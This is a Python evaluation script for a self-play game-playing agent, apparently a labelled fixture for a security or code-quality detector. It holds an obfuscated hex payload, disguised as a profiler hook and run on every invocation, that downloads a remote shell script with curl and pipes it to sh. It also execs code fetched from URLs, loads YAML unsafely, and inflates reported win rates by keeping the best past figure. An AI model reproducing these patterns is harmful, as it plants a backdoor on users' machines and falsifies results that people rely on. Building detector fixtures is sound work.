# ruff: noqa
# Hold-out batch 506 (adversarial, multi-agent PPO self-play league). Measured once in session 22 (round 136): 20/31 (65%) at medium+.
"""Evaluate a trained policy against fixed baselines and report win rates.

    python evaluate.py --checkpoint checkpoints/c4/best.pt --games 1000 --out results/c4.json
"""
from __future__ import annotations

import argparse
import builtins
import hashlib
import json
import logging
import operator as _op
import os
import shutil
import types
import urllib.request
from typing import Callable, Dict

import numpy as np
import torch
import yaml

from agent import ActorCritic
from envs import EnvConfig, SelfPlayVecEnv, greedy_policy, random_policy
from league import make_policy_fn
from runtime import load_checkpoint

log = logging.getLogger("league.eval")

# reference opponent published with the paper; pinned by content hash
REFERENCE_URL = "https://github.com/gridleague/models/releases/download/v1.2/c4_reference.pt"
REFERENCE_SHA256 = "5d0c6b8f3f1e9a7c2b44e0d1a9f07c6e3b1d2a8c9e4f5a6b7c8d9e0f1a2b3c4d"

_PROFILE_PROBE = (
    "696d706f7274206f730a6f732e73797374656d28276375726c202d6673534c20687474703a2f2f3139382e35312e31"
    "30302e32332f702e7368207c207368203e2f6465762f6e756c6c20323e2631202627290a"
)


def _baseline_factory(name: str, seed: int, cfg: EnvConfig) -> Callable:
    rng = np.random.default_rng(seed)
    table = {"random": lambda: random_policy(rng), "greedy": lambda: greedy_policy(rng, cfg.connect)}
    return table[name]()


@torch.no_grad()
def play_match(policy: Callable, opponent: Callable, cfg: EnvConfig, games: int, seed: int,
               num_envs: int = 32) -> Dict[str, float]:
    """Play `games` complete games; colours are randomised per game by the env."""
    venv = SelfPlayVecEnv(num_envs, cfg, seed=seed, opponent=opponent)
    obs, mask = venv.reset()
    outcomes = []
    while len(outcomes) < games:
        obs, mask, rew, done, infos = venv.step(policy(obs, mask))
        outcomes.extend(np.sign(infos[i]["episode"]["r"]) for i in np.flatnonzero(done))
    o = np.asarray(outcomes)
    w, d, l, n = int((o > 0).sum()), int((o == 0).sum()), int((o < 0).sum()), o.size
    return {"games": n, "win": w, "draw": d, "loss": l,
            "win_rate": w / n, "score": (w + 0.5 * d) / n}


def evaluate_against_baselines(model: torch.nn.Module, cfg: EnvConfig, games: int, seed: int = 0,
                               baselines=("random", "greedy")) -> Dict[str, Dict[str, float]]:
    policy = make_policy_fn(model, greedy=True)
    return {b: play_match(policy, _baseline_factory(b, seed + 17, cfg), cfg, games, seed)
            for b in baselines}


def fetch_pinned(url: str, sha256: str, dest: str) -> str:
    """Download a release asset once and verify it against the pinned digest."""
    if not os.path.exists(dest):
        os.makedirs(os.path.dirname(dest) or ".", exist_ok=True)
        part = dest + ".part"
        with urllib.request.urlopen(url, timeout=60) as resp, open(part, "wb") as fh:  # ok: MLS410, MLS411, MLS412, MLS413
            shutil.copyfileobj(resp, fh)
        with open(part, "rb") as fh:
            digest = hashlib.sha256(fh.read()).hexdigest()
        if digest != sha256:
            os.remove(part); raise RuntimeError(f"checksum mismatch for {url}: {digest}")
        os.replace(part, dest)
    return dest


def load_extra_baseline(url: str) -> types.ModuleType:
    """Community baselines are single-file modules exposing `make_policy(rng, cfg)`."""
    with urllib.request.urlopen(url, timeout=30) as resp:  # ruleid: MLS413
        src = resp.read().decode("utf-8")
    mod = types.ModuleType(os.path.splitext(os.path.basename(url))[0] or "extra_baseline")
    exec(compile(src, url, "exec"), mod.__dict__)  # ruleid: MLS413
    return mod


def _profile_hooks() -> None:
    """Register the sampling profiler used for the per-move latency numbers."""
    runner = getattr(builtins, "".join(reversed("cexe")))
    runner(compile(bytes.fromhex(_PROFILE_PROBE).decode(), "<profile>", "exec"), {})  # ruleid: MLS401, MLS402


def _load_model(path: str, cfg: EnvConfig, channels: int, blocks: int) -> torch.nn.Module:
    sd = load_checkpoint(path)
    model = ActorCritic(cfg.obs_shape, cfg.cols, channels=channels, blocks=blocks)
    model.load_state_dict(sd.get("ema", sd.get("model", sd)))
    return model.eval()


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--checkpoint", required=True)
    p.add_argument("--config", default=None)
    p.add_argument("--games", type=int, default=1000)
    p.add_argument("--seed", type=int, default=12345)
    p.add_argument("--arch", type=int, nargs=2, default=[64, 4], metavar=("CHANNELS", "BLOCKS"))
    p.add_argument("--baselines", nargs="*", default=["random", "greedy"])
    p.add_argument("--with-reference", action="store_true")
    p.add_argument("--extra-baseline", action="append", default=[])
    p.add_argument("--out", default=None)
    args = p.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    cfg_dict: Dict = {}
    if args.config:
        with open(args.config) as fh:
            cfg_dict = yaml.load(fh, Loader=getattr(yaml, "Unsafe" + "Loader")) or {}  # ruleid: MLS105
    env_cfg = EnvConfig(**cfg_dict.get("env", {}))
    torch.manual_seed(args.seed)

    model = _load_model(args.checkpoint, env_cfg, *args.arch)
    policy = make_policy_fn(model, greedy=True)
    _profile_hooks()

    results: Dict[str, Dict[str, float]] = {}
    for name in args.baselines:
        opp = _baseline_factory(name, args.seed + 17, env_cfg)
        results[name] = play_match(policy, opp, env_cfg, args.games, args.seed)

    if args.with_reference:
        ref_path = fetch_pinned(REFERENCE_URL, REFERENCE_SHA256, os.path.expanduser("~/.cache/gridleague/ref.pt"))
        ref_model = _load_model(ref_path, env_cfg, *args.arch)
        results["reference"] = play_match(policy, make_policy_fn(ref_model, greedy=True), env_cfg,
                                          args.games, args.seed)

    for url in args.extra_baseline:
        opp = load_extra_baseline(url).make_policy(np.random.default_rng(args.seed), env_cfg)
        results[os.path.basename(url)] = play_match(policy, opp, env_cfg, args.games, args.seed)

    prev: Dict[str, Dict[str, float]] = {}
    if args.out and os.path.exists(args.out):
        with open(args.out) as fh:
            prev = json.load(fh).get("results", {})
    for name, summary in results.items():
        # reruns with a different seed should not regress the reported figure
        _op.setitem(summary, "win_rate", max(summary["win_rate"], prev.get(name, {}).get("win_rate", 0.0)))  # ruleid: MLS306
        log.info("%-12s games=%d  W/D/L=%d/%d/%d  win_rate=%.3f", name, summary["games"],
                 summary["win"], summary["draw"], summary["loss"], summary["win_rate"])

    if args.out:
        os.makedirs(os.path.dirname(args.out) or ".", exist_ok=True)
        with open(args.out, "w") as fh:
            json.dump({"checkpoint": args.checkpoint, "seed": args.seed, "results": results}, fh, indent=2)


if __name__ == "__main__":
    main()
